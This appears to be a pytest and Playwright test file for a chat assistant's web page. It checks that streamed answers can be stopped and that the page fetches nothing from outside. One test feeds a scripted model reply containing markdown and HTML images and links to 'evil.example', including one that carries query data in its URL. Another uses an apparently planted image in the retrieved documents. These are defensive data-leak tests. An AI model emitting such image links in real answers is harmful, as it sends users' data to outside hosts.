"""The page with a model, in a real browser: it grows, it can be stopped, and it fetches nothing from anywhere."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page

from askresolution.answering.assistant import Assistant
from tests.generative.hostile import POOR
from tests.generative.scripted import Reply, Scripted
from tests.generative.test_engine import GOOD, Running, planted

pytestmark = pytest.mark.filterwarnings("ignore")
__all__ = ["planted"]
Make = Callable[..., Assistant]


def ask(browser: Browser, address: str, question: str) -> tuple[Page, list[str]]:
    context = browser.new_context()
    foreign: list[str] = []
    context.on("request", lambda r: foreign.append(r.url) if not r.url.startswith((address, "data:", "blob:")) else None)
    page = context.new_page()
    page.goto(address)
    page.fill("#question textarea", question)
    page.click("#send")
    return page, foreign


def test_the_answer_grows_and_can_be_stopped(server: Scripted, generative: Make, browser: Browser) -> None:
    server.script = lambda _: Reply(pieces=(GOOD, "và "), endless=True, pause=0.05)
    with Running(generative(llm_total_s=60.0), page=True) as address:
        page, foreign = ask(browser, address, POOR)
        page.wait_for_selector("#chat >> text=0,22%", timeout=20_000)
        page.click("#stop")
        assert server.closed.wait(10), "the model was not stopped"
        time.sleep(0.5)
        assert "0,22%" in page.inner_text("#chat")
        assert foreign == []
        page.context.close()


def test_a_leaking_reply_fetches_nothing(server: Scripted, generative: Make, browser: Browser) -> None:
    server.script = lambda _: Reply(
        GOOD + "![x](http://evil.example/a.png?q=ho-ngheo) <img src=http://evil.example/b.png> [mở](http://evil.example) [1]."
    )
    with Running(generative(), page=True) as address:
        page, foreign = ask(browser, address, POOR)
        page.wait_for_selector("#chat a[href*='/documents/']", timeout=20_000)
        assert "evil.example" not in page.inner_html("#chat")
        assert foreign == []
        page.context.close()


def test_a_planted_image_is_shown_as_its_words(planted: Assistant, server: Scripted, browser: Browser) -> None:
    server.script = lambda _: Reply(status=503)
    with Running(planted, page=True) as address:
        page, foreign = ask(browser, address, "Xem số đàn ong của toàn xã tại đâu?")
        page.wait_for_selector("#chat a[href*='/documents/']", timeout=20_000)
        assert page.locator("#chat img[src*='evil']").count() == 0
        assert page.locator("#chat a[href*='/p.png']").count() == 0
        assert [url for url in foreign if "evil" in url] == []
        page.context.close()
